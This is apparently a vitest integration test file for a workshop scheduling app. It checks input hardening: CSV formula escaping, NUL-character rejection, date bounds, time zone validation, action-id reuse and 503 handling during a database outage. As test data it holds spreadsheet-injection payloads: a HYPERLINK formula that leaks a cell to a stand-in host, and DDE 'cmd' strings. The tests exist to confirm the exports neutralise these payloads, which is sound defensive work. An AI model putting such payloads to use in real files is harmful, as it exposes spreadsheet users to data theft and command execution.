// Input hardening: spreadsheet formulas in CSV exports, NUL characters and far-off times that
// used to reach PostgreSQL, time zones Node knows and PostgreSQL does not, action ids reused
// for another step, and the database going away for a moment (503 with Retry-After, then back).
import { randomBytes, randomUUID } from 'node:crypto'
import { chmodSync, mkdtempSync, rmSync } from 'node:fs'
import { get as httpGet, type IncomingHttpHeaders } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { ChildProcess } from 'node:child_process'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { baseUrl, call, signIn } from '../setup/http'
import { DEMO_PASSWORD, closeTestDb, demo, makeOtherWorkshop, makeUser } from '../setup/fixtures'
import { boardFixture } from '../setup/board-fixtures'
import { finishingFixture } from '../setup/finishing-fixtures'
import { ownSeededCluster } from '../setup/throwaway-db'
import { startAppServer } from '../setup/server'
import { downCluster, upCluster, type DbTarget } from '../../db/local/cluster'

let lead = ''
let caster = ''
let fx: Awaited<ReturnType<typeof boardFixture>>

beforeAll(async () => {
  lead = await signIn(demo.lead.email, DEMO_PASSWORD)
  caster = await signIn(demo.caster1.email, DEMO_PASSWORD)
  fx = await boardFixture('harden')
})
afterAll(closeTestDb)

const BOM = [0xEF, 0xBB, 0xBF]
const FORMULA = '=HYPERLINK("http://evil.example.test/?leak="&A1,"Open")'

/** The raw bytes of a download (fetch's text() would drop the BOM, as UTF-8 decoding does). */
async function download(path: string) {
  const res = await fetch(baseUrl() + path, { headers: { cookie: lead } })
  expect(res.status).toBe(200)
  const bytes = new Uint8Array(await res.arrayBuffer())
  return { bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) }
}

describe('CSV exports cannot carry a formula', () => {
  it('the register escapes a caster named as a formula and a defect starting with @, keeps -3.5 °C a number, starts with a BOM', async () => {
    const person = await makeUser(fx.workshopId, 'caster', 'formula')
    await fx.k('users').where({ id: person.id }).update({ name: FORMULA })
    const job = await fx.job()
    const mould = await fx.mould()
    const item = await fx.item(job, mould)
    const lot = await fx.lot()
    await fx.k('pours').insert({
      workshop_id: fx.workshopId, job_item_id: item, mould_id: mould, caster_id: person.id, grade_id: fx.gradeId, lot_id: lot,
      consistency: 70, slot: fx.k.raw('tstzrange(?::timestamptz, ?::timestamptz)', ['2026-01-12T09:00:00Z', '2026-01-12T09:50:00Z']),
      mix_at: '2026-01-12T09:05:00Z', demould_open_at: '2026-01-12T09:30:00Z', demould_close_at: '2026-01-12T09:45:00Z', state: 'demoulded',
      plaster_kg_planned: 2, water_kg_planned: 1.4, plaster_kg_actual: 2, water_kg_actual: 1.4, shop_temp_c: -3.5, water_temp_c: 4,
      mixing_at: '2026-01-12T09:05:00Z', poured_at: '2026-01-12T09:08:00Z', demoulded_at: '2026-01-12T09:40:00Z', result: 'defect', defect: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    })
    const { bytes, text } = await download(`/api/jobs/${job}/register/export`)
    expect([...bytes.slice(0, 3)]).toEqual(BOM)
    const header = text.slice(1).split('\n')[0]!.split(',')
    const row = text.trim().split('\n')[1]!
    // the formula is quoted (it holds commas and quotes) and starts with ' inside the quotes
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example.test/?leak=""&A1,""Open"")"`)
    expect(row).not.toMatch(/(^|,)"?=/)
    expect(row).toContain(',\'@SUM(1+1)')
    const cells = row.split(',')
    expect(cells[header.indexOf('shop temp (°C)')]).toBe('-3.5')
    expect(text).toContain('water temp (°C)')
  })

  it('lots, moulds and job items escape text cells; the day sheet goes through the same sender', async () => {
    const lotCode = `+${fx.tag}-lot`
    await fx.lot({ lot_code: lotCode, notes: '-2+3+cmd|\' /C calc\'!A0' })
    const lots = await download('/api/lots/export')
    expect([...lots.bytes.slice(0, 3)]).toEqual(BOM)
    expect(lots.text).toContain(`'${lotCode},`)
    expect(lots.text).toContain(',\'-2+3+cmd|')
    const mould = await fx.mould({ casts: '@cast', state_reason: '\tTAB' })
    const moulds = await download('/api/moulds/export')
    expect(moulds.text).toContain(',\'@cast,')
    expect(moulds.text).toContain('\'\tTAB')
    const job = await fx.job()
    await fx.item(job, mould, { description: '=1+1' })
    const items = await download(`/api/jobs/${job}/export`)
    expect(items.text).toContain(',\'=1+1,')
    const sheet = await download('/api/day-sheet/export?day=2027-04-21')
    expect([...sheet.bytes.slice(0, 3)]).toEqual(BOM)
    expect(sheet.text.slice(1).split('\n')[0]).toBe('section,bench,mould,casts,job,item,caster,mix,demould_open,demould_close,grade,consistency,plaster_kg,water_kg,water_L,bags,bag_kg,lot_to_open,consumable,quantity,on_hand,unit')
  })
})

describe('text with a NUL character is a 422 naming the field, and nothing is written', () => {
  it('in JSON bodies of different routes, a query and a path parameter', async () => {
    const count = async (table: string) => Number((await fx.k(table).count('* as n').first())!.n)
    const [jobs, moulds, lots] = [await count('jobs'), await count('moulds'), await count('plaster_lots')]
    const cases: [string, string, unknown, string][] = [
      ['POST', '/api/jobs', { code: `NUL-${fx.tag}`, title: 'Cornice\u0000run' }, 'title'],
      ['POST', '/api/moulds', { code: `NUL-${fx.tag}`, casts: 'Ceiling\u0000rose', material: 'silicone', benchId: fx.benchId, cavityLitres: 1, prepMinutes: 5, cleanMinutes: 5, maxDwellMinutes: 60, pulls: 0 }, 'casts'],
      ['POST', '/api/lots', { gradeId: fx.gradeId, lotCode: `NUL-${fx.tag}`, bagsReceived: 2, bagKg: 25, receivedOn: '2026-12-01', notes: 'damp\u0000bags' }, 'notes'],
    ]
    for (const [method, path, body, field] of cases) {
      const r = await call(path, { method, cookie: lead, body })
      expect(r.status, `${path} ${JSON.stringify(r.data)}`).toBe(422)
      expect(r.data.data.problems.map((p: { field: string }) => p.field)).toEqual([field])
      expect(r.data.message).toContain('NUL')
    }
    expect([await count('jobs'), await count('moulds'), await count('plaster_lots')]).toEqual([jobs, moulds, lots])
    const q = await call(`/api/jobs/${await fx.job()}/register?result=sound%00`, { cookie: lead })
    expect(q.status).toBe(422)
    expect(q.data.data.problems[0].field).toBe('query.result')
    const p = await call('/api/jobs/1%00', { cookie: lead })
    expect(p.status).toBe(422)
    expect(p.data.data.problems[0].field).toBe('params.id')
  })
})

describe('times people enter stay within sensible bounds', () => {
  it('a dispatch dated in year 0, 1000 or 10000 is a 422 naming at; no note is made', async () => {
    const job = await fx.job()
    const before = Number((await fx.k('dispatches').count('* as n').first())!.n)
    for (const at of ['0000-06-01T10:00:00Z', '1000-06-01T10:00:00Z', '+010000-01-01T00:00:00Z']) {
      const r = await call(`/api/jobs/${job}/dispatches`, { method: 'POST', cookie: lead, body: { actionId: randomUUID(), pieceIds: [1], at } })
      expect(r.status, at).toBe(422)
      expect(r.data.data.problems[0].field).toBe('at')
    }
    expect(Number((await fx.k('dispatches').count('* as n').first())!.n)).toBe(before)
  })

  it('a step dated more than a year back is a 422 naming at; the pour stays planned', async () => {
    const job = await fx.job()
    const item = await fx.item(job, null)
    const planned = await call('/api/pours', { method: 'POST', cookie: lead, body: { mouldId: await fx.mould(), slotStart: '2028-06-07T09:00:00Z', jobItemId: item, casterId: fx.casterId } })
    expect(planned.status).toBe(201)
    const at = new Date(Date.now() - 400 * 86_400_000).toISOString()
    const r = await call(`/api/pours/${planned.data.id}/actions`, { method: 'POST', cookie: caster, body: { actionId: randomUUID(), kind: 'start_mixing', version: 1, waterTempC: 18, at } })
    expect(r.status).toBe(422)
    expect(r.data.data.problems[0]).toMatchObject({ field: 'at', message: 'at must be within the last year' })
    expect(await fx.k('pours').where({ id: planned.data.id }).first('state', 'version')).toEqual({ state: 'planned', version: 1 })
  })
})

describe('a workshop time zone must be one PostgreSQL knows', () => {
  it('a zone Intl accepts and PostgreSQL lacks is a 422 naming the timezone; the board still answers', async () => {
    const zone = 'SystemV/AST4'
    // the premise: Node accepts it, the database does not know it
    expect(() => new Intl.DateTimeFormat('en', { timeZone: zone })).not.toThrow()
    expect(await fx.k.raw('SELECT 1 FROM pg_timezone_names WHERE lower(name) = lower(?)', [zone]).then(r => r.rows)).toEqual([])
    const other = await makeOtherWorkshop()
    const otherLead = await signIn(other.lead.email, DEMO_PASSWORD)
    const before = (await call('/api/workshop', { cookie: otherLead })).data
    const r = await call('/api/workshop', { method: 'PATCH', cookie: otherLead, body: { ...before, timezone: zone } })
    expect(r.status).toBe(422)
    expect(r.data.data.problems[0].field).toBe('timezone')
    expect(r.data.message).toContain('Timezone')
    expect((await call('/api/workshop', { cookie: otherLead })).data).toEqual(before)
    expect((await call('/api/board?from=2027-09-13&to=2027-09-13', { cookie: otherLead })).status).toBe(200)
    // a known zone in another case is saved in the database's own spelling
    const ok = await call('/api/workshop', { method: 'PATCH', cookie: otherLead, body: { ...before, timezone: 'europe/paris' } })
    expect(ok.status).toBe(200)
    expect(ok.data.timezone).toBe('Europe/Paris')
  })
})

describe('an action id is bound to its step, row and person', () => {
  it('the same id on another pour, another step, the piece route or from another person is a 409 saying so; a true replay answers as before', async () => {
    const fin = await finishingFixture('harden-bind')
    const job = await fx.job()
    const item = await fx.item(job, null)
    const plan = async () => (await call('/api/pours', { method: 'POST', cookie: lead, body: { mouldId: await fx.mould(), slotStart: '2028-06-14T09:00:00Z', jobItemId: item, casterId: fx.casterId } })).data.id as number
    const [p1, p2] = [await plan(), await plan()]
    const actionId = randomUUID()
    const start = { actionId, kind: 'start_mixing', version: 1, waterTempC: 18 }
    const first = await call(`/api/pours/${p1}/actions`, { method: 'POST', cookie: caster, body: start })
    expect(first.status).toBe(200)
    const piece = await fin.piece()
    const finisher = await signIn(demo.finisher.email, DEMO_PASSWORD)
    const caster2 = await signIn(demo.caster2.email, DEMO_PASSWORD)
    const state = async () => ({
      pours: await fx.k('pours').whereIn('id', [p1, p2]).orderBy('id').select('state', 'version'),
      piece: await fx.k('pieces').where({ id: piece.id }).first('state', 'version'),
      actions: await fx.k('processed_actions').where({ id: actionId }).select('kind', 'entity_id', 'status'),
    })
    const was = await state()
    expect(was.actions).toEqual([{ kind: 'pour.start_mixing', entity_id: String(p1), status: 200 }])
    const reuses: [string, string, unknown, string, RegExp][] = [
      [`/api/pours/${p2}/actions`, caster, start, 'entity', /already used for another step, on another pour/],
      [`/api/pours/${p1}/actions`, caster, { actionId, kind: 'poured', version: 2, plasterKg: 2.9, waterKg: 2.03, shopTempC: 17 }, 'step', /already used for another step \(pour: start mixing\)/],
      [`/api/pieces/${piece.id}/actions`, finisher, { actionId, kind: 'fettled', version: 1 }, 'person', /already used by another person/],
      [`/api/pieces/${piece.id}/actions`, lead, { actionId, kind: 'fettled', version: 1 }, 'person', /already used by another person/],
      [`/api/pours/${p1}/actions`, caster2, start, 'person', /already used by another person/],
    ]
    for (const [path, cookie, body, mismatch, message] of reuses) {
      const r = await call(path, { method: 'POST', cookie, body })
      expect(r.status, `${path} ${mismatch}`).toBe(409)
      expect(r.data.message).toMatch(message)
      expect(r.data.data.mismatch).toBe(mismatch)
    }
    const replay = await call(`/api/pours/${p1}/actions`, { method: 'POST', cookie: caster, body: start })
    expect(replay.status).toBe(200)
    expect(replay.headers.get('x-setline-replayed')).toBe('1')
    expect(replay.data).toEqual(first.data)
    expect(await state()).toEqual(was)
  })
})

describe('the database briefly gone', () => {
  const base = mkdtempSync(join(tmpdir(), 'setline-outage-'))
  chmodSync(base, 0o755)
  let target: DbTarget | undefined
  let app: { url: string; proc: ChildProcess } | undefined
  /**
   * A GET on a connection of its own, closed after the answer. Stopping and starting PostgreSQL
   * takes seconds on a loaded machine, longer than the server keeps an idle keep-alive socket:
   * a pooled socket could be closed by the server just as the next request goes out on it,
   * which says nothing about the server ("fetch failed", as CI once saw).
   */
  function getOnFreshConnection(url: string, headers: Record<string, string>) {
    return new Promise<{ status: number; headers: IncomingHttpHeaders; body: string }>((resolve, reject) => {
      const req = httpGet(url, { headers, agent: false }, (res) => {
        let body = ''
        res.setEncoding('utf8')
        res.on('data', (chunk: string) => (body += chunk))
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }))
        res.on('error', reject)
      })
      req.on('error', reject)
    })
  }
  afterAll(async () => {
    app?.proc.kill('SIGTERM')
    if (target) downCluster(target)
    rmSync(base, { recursive: true, force: true })
  })

  it('answers 503 with Retry-After and a plain message while PostgreSQL is stopped, and 200 once it is back', async () => {
    target = await ownSeededCluster(base, 'outage')
    app = await startAppServer({ DATABASE_URL: target.url, NUXT_SESSION_PASSWORD: randomBytes(24).toString('hex'), PHOTO_STORAGE_DIR: join(base, 'photos') })
    const health = () => getOnFreshConnection(`${app!.url}/api/health`, { accept: 'application/json' })
    expect((await health()).status).toBe(200)
    // a signed-in lead (the session is a sealed cookie: reading it needs no database)
    const login = await fetch(`${app.url}/api/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: demo.lead.email, password: DEMO_PASSWORD }) })
    expect(login.status).toBe(200)
    const session = login.headers.getSetCookie().find(c => c.startsWith('setline-session='))!.split(';')[0]!

    downCluster(target)
    // the first request meets the pool's cut connection, the next ones a refused connect
    for (let i = 0; i < 3; i++) {
      const r = await health()
      expect(r.status).toBe(503)
      expect(r.headers['retry-after']).toBe('5')
      expect(JSON.parse(r.body)).toMatchObject({ statusCode: 503, message: 'Setline\'s database is not answering; try again in a moment' })
    }
    // a page request (the lead follows an export link) gets Nuxt's error page with the same words
    const page = await getOnFreshConnection(`${app.url}/api/moulds/export`, { accept: 'text/html', cookie: session })
    expect(page.status).toBe(503)
    expect(page.headers['content-type']).toContain('text/html')
    expect(page.body).toContain('database is not answering')

    upCluster(target)
    // a new connection: a crashed server would refuse it, and fail here
    const back = await health()
    expect(app.proc.exitCode).toBeNull()
    expect(back.status).toBe(200)
    expect(JSON.parse(back.body)).toEqual({ ok: true })
  }, 300_000)
})
